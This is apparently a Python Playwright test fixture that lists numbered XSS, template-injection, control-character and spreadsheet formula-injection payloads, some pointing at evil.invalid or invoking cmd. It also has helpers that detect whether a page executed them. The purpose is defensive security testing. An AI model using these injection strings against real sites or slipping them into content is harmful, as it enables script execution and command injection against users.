"""What a hostile client or model writes wherever it can, and everything that would show it had an effect.

Each payload carries its number, so that a text seen on a page tells which one it is; one that is run sets
`window.hit`, opens a dialog or asks for a picture, and a policy that stops it reports that.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

from playwright.sync_api import Dialog, Page

SIGN: Final = "hostile"
FORBIDDEN: Final = (
    "iframe, object, embed, base, img, style, animate, body link, meta[http-equiv], [onerror], [onload], "
    "[onmouseover], [onfocus], [srcdoc], [style], [autofocus], a[href^='javascript:' i]"
)
LOOK: Final = """(forbidden) => [
  ...violations,
  ...(window.hit ? ["a script ran"] : []),
  ...[...document.querySelectorAll(forbidden)].map((it) => it.outerHTML.slice(0, 200)),
]"""
LONG: Final = 1_000_000
WATCH: Final = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (it) => violations.push(it.blockedURI + it.sample));
"""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text under a name; `mark` is a piece of it that a page which shows it has to show as text."""

    name: str
    text: str

    @property
    def mark(self) -> str:
        """What is looked for; hardly anything, for pages cut long texts."""
        return f"{SIGN}-{self.name}"


def _payload(name: str, text: str) -> Payload:
    return Payload(name, f"{SIGN}-{name} {text}")


PAYLOADS: Final = (
    _payload("script", "<script>window.hit=1;alert(1)</script>"),
    _payload("close", "</title></textarea></script></td></svg><script>window.hit=1</script>"),
    _payload("img", '<img src=x onerror="window.hit=1;alert(1)">'),
    _payload("svg", "<svg onload=window.hit=1><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _payload("quote", '"\' onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x="'),
    _payload("link", 'javascript:window.hit=1//<a href="javascript:window.hit=1">here</a>'),
    _payload("braces", "{{ 7 * 7 }} {% for x in ().__class__ %}${window.hit=1}#{7*7} <%= 7*7 %>"),
    _payload("direction", "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff \u0301\u0301\u0301"),
    _payload("null", "a\x00b\x01\x1b[31m\x7f\u2028\u2029\r\n\tend"),
    _payload(
        "style",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.invalid/x><base href=//evil.invalid>",
    ),
    _payload("frame", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><object data=x><embed src=x>"),
    _payload(
        "form", "<form action=//evil.invalid><input name=__proto__></form><meta http-equiv=refresh content=0>"
    ),
    _payload("formula", '=HYPERLINK("http://evil.invalid")'),
    Payload("equals", f"=cmd|'/c calc'!A1 {SIGN}-equals"),
    Payload("plus", f"+1+1 {SIGN}-plus"),
    Payload("minus", f"-1+1 {SIGN}-minus"),
    Payload("at", f"@SUM(1) {SIGN}-at"),
    Payload("tab", f"\t=1+1 {SIGN}-tab"),
    Payload("return", f"\r=1+1 {SIGN}-return"),
    _payload("long", "<b>" + "x" * LONG),
)


def arm(page: Page) -> list[str]:
    """Have a page tell what payloads do on it, from its next visit on; return the list of its dialogs."""
    dialogs: list[str] = []

    def told(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.add_init_script(WATCH)
    page.on("dialog", told)
    return dialogs


def effects(page: Page) -> list[str]:
    """Return what payloads did on a page, beyond what its visitor notices: scripts, violations, elements."""
    found: list[str] = page.evaluate(LOOK, FORBIDDEN)
    return found
